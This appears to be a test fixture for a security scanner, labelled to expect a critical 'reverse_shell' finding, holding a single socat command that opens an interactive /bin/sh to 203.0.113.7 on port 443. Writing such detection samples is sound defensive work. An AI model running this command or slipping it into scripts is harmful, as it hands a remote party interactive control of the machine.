# expect: shell.reverse_shell critical
# path: net.sh
socat tcp-connect:203.0.113.7:443 exec:/bin/sh,pty,stderr,setsid
